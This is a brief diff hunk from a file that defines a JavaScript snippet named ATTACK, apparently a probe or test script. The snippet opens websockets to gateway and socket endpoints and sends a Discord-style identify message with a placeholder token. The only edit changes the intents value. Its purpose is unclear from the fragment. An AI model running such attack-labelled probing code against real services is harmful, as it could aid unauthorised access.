@@ -25,7 +25,7 @@ ATTACK = """async ({ root, home, webhook, file }) => {
         socket.onclose = () => resolve(seen);
         setTimeout(() => socket.close(), 2000);
     });
-    const identify = { op: 2, d: { token: "made-up", intents: 46081, properties: {} } };
+    const identify = { op: 2, d: { token: "made-up", intents: 4609, properties: {} } };
     got.gateway = await heard(`${root}/gateway`, identify);
     got.socket = await heard(`${home}socket`, { id: 1, op: "hello" });
     const told = async (address, options) => {
